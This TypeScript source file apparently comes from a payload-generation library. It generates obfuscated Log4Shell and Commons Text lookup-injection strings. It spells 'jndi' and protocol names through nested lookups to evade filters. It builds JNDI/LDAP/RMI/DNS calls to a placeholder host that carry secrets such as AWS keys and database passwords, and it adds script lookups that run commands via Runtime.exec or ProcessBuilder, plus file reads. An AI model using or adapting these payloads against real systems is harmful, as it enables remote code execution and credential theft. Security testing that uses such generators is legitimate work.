// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of look-ups
import type { Random } from '../../../random.js';
import { templateGenerator } from '../template-generator.js';

/** A letter as a look-up that answers it: with a default, through a change of case, or from a date's literal. */
function hidden(random: Random, letter: string): string {
  const name = (): string =>
    Array.from({ length: 1 + random.below(5) }, () => String.fromCharCode(97 + random.below(26))).join('');
  return random.pick([
    letter,
    letter,
    `\${::-${letter}}`,
    `\${${name()}:-${letter}}`,
    `\${:::::-${letter}}`,
    `\${env:${name().toUpperCase()}:-${letter}}`,
    `\${sys:${name()}.${name()}:-${letter}}`,
    `\${ctx:${name()}:-${letter}}`,
    `\${lower:${letter.toUpperCase()}}`,
    `\${lower:\${upper:${letter}}}`,
    `\${${name()}:\${${name()}:-x}:-${letter}}`,
    `\${map:${name()}:-${letter}}`,
    `\${sd:${name()}:-${letter}}`,
    `\${date:'${letter}'}`,
    `\${java:${name()}:-${letter}}`,
    `\${main:\${sys:x:-9}:-${letter}}`,
    `\${mdc:${name()}:-${letter}}`,
    `\${bundle:${name()}:${name()}:-${letter}}`,
    `\${web:${name()}:-${letter}}`,
    `\${k8s:${name()}:-${letter}}`,
    `\${spring:${name()}:-${letter}}`,
    `\${event:${name()}:-${letter}}`,
    `\${\${::-l}ower:${letter}}`,
  ]);
}
const spell = (random: Random, word: string): string => [...word].map((letter) => hidden(random, letter)).join('');

/** Log4j's and Commons Text's look-ups: defaults at odd places, other look-ups that read or run. */
export const lookUpDefaults = templateGenerator({
  name: 'look-up-defaults',
  engines: ['log4j', 'commons-text'],
  rules: {
    start: [
      '${l}{jndi}:{protocol}://{host}/{letters}{r}',
      '{before}${l}{jndi}:{protocol}://{host}/{letters}{r}{after}',
      '${l}{jndi}:{protocol}:{slashes}{host}/${l}{leak}{r}{r}',
      '${l}jndi:{protocol}://${l}{leak}{r}.{host}/x{r}',
      '${l}jndi:ldap://127.0.0.1#{host}/x{r}',
      '${l}jndi:${l}lower:{protocol}{r}://{host}/x{r}',
      '${l}${l}lower:${l}upper:jndi{r}{r}:ldap://{host}/x{r}',
      '${l}script:{engine}:{script}{r}',
      '${l}url:UTF-8:http://{host}/x{r}',
      '${l}dns:address|{host}{r}',
      '${l}file:UTF-8:{file}{r}',
      '${l}const:java.io.File.separator{r}${l}script:js:{digit}{r}',
      '${l}base64Decoder:JHtqbmRpOmxkYXA6Ly94L30={r}',
      '${l}properties:{file}::{letters}{r}',
      '${l}xml:{file}:/root{r}',
      '${l}resourceBundle:{letters}:password{r}',
      '${l}{leak}{r}',
      '{letters} ${l}{leak}{r}',
      '${l}urlDecoder:%24%7Bjndi:ldap://{host}/x%7D{r}',
    ],
    jndi: (random) => spell(random, 'jndi'),
    protocol: (random) => spell(random, random.pick(['ldap', 'rmi', 'dns', 'ldaps', 'iiop', 'nis', 'corba', 'http'])),
    slashes: ['//', '/', '${l}::-/{r}/', '${l}::-/{r}${l}::-/{r}'],
    leak: [
      'env:AWS_SECRET_ACCESS_KEY',
      'env:DB_PASSWORD',
      'sys:java.version',
      'sys:user.name',
      'java:os',
      'java:vm',
      'docker:containerId',
      'k8s:podName',
      'main:0',
      'bundle:application:spring.datasource.password',
      'spring:spring.datasource.password',
      'web:rootDir',
      'env:HOSTNAME',
      'ctx:loginId',
    ],
    engine: ['javascript', 'js', 'nashorn', 'groovy'],
    script: [
      "java.lang.Runtime.getRuntime().exec('{command}')",
      '7*{number}',
      "new java.lang.ProcessBuilder('{command}').start()",
      "'{command}'.execute()",
    ],
  },
});
